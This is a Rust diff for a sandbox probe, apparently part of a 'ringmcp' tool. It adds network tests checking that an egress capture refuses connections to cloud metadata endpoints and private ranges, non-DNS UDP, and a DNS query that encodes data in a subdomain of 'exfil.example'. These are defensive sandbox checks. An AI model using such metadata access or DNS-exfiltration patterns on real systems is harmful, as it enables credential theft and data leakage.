@@ -68,6 +68,9 @@ pub struct ProbeArgs {
     pub workspace: Option<String>,
     /// The most fds the server may hold open (its `RLIMIT_NOFILE` hard limit).
     pub nofile: Option<u64>,
+    /// The sandbox has network (through the egress capture): the network attempts expect the
+    /// capture's answers, and the ones that only a captured network can be asked are added.
+    pub network: bool,
     /// The baseline run: outside any sandbox, every [`Baseline::NotRun`] attempt skipped.
     pub baseline: bool,
 }
@@ -96,6 +99,9 @@ fn errno_name(e: i32) -> String {
         libc::ENOTTY => "ENOTTY",
         libc::EOPNOTSUPP => "EOPNOTSUPP",
         libc::EADDRNOTAVAIL => "EADDRNOTAVAIL",
+        libc::ECONNRESET => "ECONNRESET",
+        libc::EPIPE => "EPIPE",
+        libc::ETIMEDOUT => "ETIMEDOUT",
         _ => return format!("errno {e}"),
     };
     name.into()
@@ -370,13 +376,18 @@ fn network(r: &mut Run, args: &ProbeArgs) {
         );
     }
     // Inside, no interface exists, so nothing leaves; outside it would send a packet off the
-    // machine, which this probe never does.
+    // machine, which this probe never does. With network, TCP port 53 is not captured.
+    let refused: &[&str] =
+        if args.network { &["ECONNREFUSED"] } else { &["ENETUNREACH", "EAFNOSUPPORT"] };
     r.add_harmful(
         22,
         "connect 1.1.1.1:53",
         || io_outcome(std::net::TcpStream::connect(("1.1.1.1", 53))),
-        &["ENETUNREACH", "EAFNOSUPPORT"],
+        refused,
     );
+    if args.network {
+        captured(r);
+    }
     if let Some(name) = &args.abstract_name {
         r.add(23, format!("connect abstract @{name}"), connect_abstract(name), &["ECONNREFUSED"]);
     }
@@ -410,6 +421,84 @@ fn network(r: &mut Run, args: &ProbeArgs) {
         // SAFETY: integers only.
         let ret = unsafe { libc::shmget(key, 0, 0) };
         r.add(26, format!("shmget(host key {key})"), outcome(ret.into()), &["ENOENT"]);
+    }
+}
+
+/// With network: what the egress capture must refuse whatever the allowlist says (blocked
+/// ranges by literal address, UDP other than DNS, a second DNS server). Every attempt lands on
+/// the sandbox's own capture; none is made outside (the baseline skips them).
+fn captured(r: &mut Run) {
+    for (what, addr) in [
+        ("connect 169.254.169.254:80 (cloud metadata), then read", "169.254.169.254:80"),
+        ("connect 10.0.0.5:443 (private), then read", "10.0.0.5:443"),
+        ("connect 100.100.100.200:80 (metadata in CGNAT), then read", "100.100.100.200:80"),
+        ("connect [::ffff:169.254.169.254]:80 (mapped), then read", "[::ffff:169.254.169.254]:80"),
+        ("connect [fd00:ec2::254]:443 (IPv6 metadata), then read", "[fd00:ec2::254]:443"),
+    ] {
+        r.add_harmful(22, what, || connect_then_read(addr), &["ECONNRESET", "EOF"]);
+    }
+    r.add_harmful(22, "UDP to 1.1.1.1:123", || udp_round_trip("1.1.1.1:123"), &["ECONNREFUSED"]);
+    r.add_harmful(
+        22,
+        "DNS to 8.8.8.8 for a name with data in it",
+        || dns_answer("8.8.8.8:53", "c2VjcmV0.exfil.example"),
+        &["NXDOMAIN", "answered by the stub"],
+    );
+}
+
+/// Connects, sends a request, reads: a refused captured connection is reset (or closed)
+/// before any byte comes back.
+fn connect_then_read(addr: &str) -> String {
+    use std::io::{Read, Write};
+    let addr: std::net::SocketAddr = addr.parse().expect("a literal address");
+    let mut s = match std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(5))
+    {
+        Ok(s) => s,
+        Err(e) => return io_outcome::<()>(Err(e)),
+    };
+    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(10)));
+    let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n");
+    let mut buf = [0u8; 256];
+    match s.read(&mut buf) {
+        Ok(0) => "EOF".into(),
+        Ok(n) => format!("read {n} bytes"),
+        Err(e) => io_outcome::<()>(Err(e)),
+    }
+}
+
+/// Sends one datagram and waits for an answer (or the ICMP refusal).
+fn udp_round_trip(addr: &str) -> String {
+    let s = match std::net::UdpSocket::bind("0.0.0.0:0") {
+        Ok(s) => s,
+        Err(e) => return io_outcome::<()>(Err(e)),
+    };
+    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(3)));
+    if let Err(e) = s.connect(addr).and_then(|()| s.send(b"ntp?")) {
+        return io_outcome::<()>(Err(e));
+    }
+    let mut buf = [0u8; 64];
+    io_outcome(s.recv(&mut buf))
+}
+
+/// Asks `server` for the A record of `name`: the stub answers every DNS datagram itself.
+fn dns_answer(server: &str, name: &str) -> String {
+    let s = match std::net::UdpSocket::bind("0.0.0.0:0") {
+        Ok(s) => s,
+        Err(e) => return io_outcome::<()>(Err(e)),
+    };
+    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(3)));
+    let q = crate::policy::egress::dns::query(0x5151, name, 1);
+    if let Err(e) = s.connect(server).and_then(|()| s.send(&q)) {
+        return io_outcome::<()>(Err(e));
+    }
+    let mut buf = [0u8; 512];
+    match s.recv(&mut buf) {
+        Ok(n) if n >= 4 && buf[3] & 0x0f == 3 => "NXDOMAIN".into(),
+        Ok(n) if n >= 12 && buf[2] & 0x04 != 0 && buf[3] & 0x0f == 0 => {
+            "answered by the stub".into()
+        }
+        Ok(n) => format!("{n}-byte answer"),
+        Err(e) => io_outcome::<()>(Err(e)),
     }
 }
 
@@ -560,6 +649,13 @@ fn kernel(r: &mut Run, args: &ProbeArgs) {
         if sig == libc::SIGKILL { "SIGKILL".into() } else { format!("{sig}") },
         &["SIGKILL"],
     );
+}
+
+/// Only the network attempts, with network on (`ringmcp sandbox check`'s egress row).
+pub fn run_network_only(args: &ProbeArgs) -> Vec<Attempt> {
+    let mut r = Run::new(args);
+    network(&mut r, &ProbeArgs { network: true, ..args.clone() });
+    r.out
 }
 
 /// Only the attempts to run code the probe wrote at run time (items 9 and 53), for `ringmcp
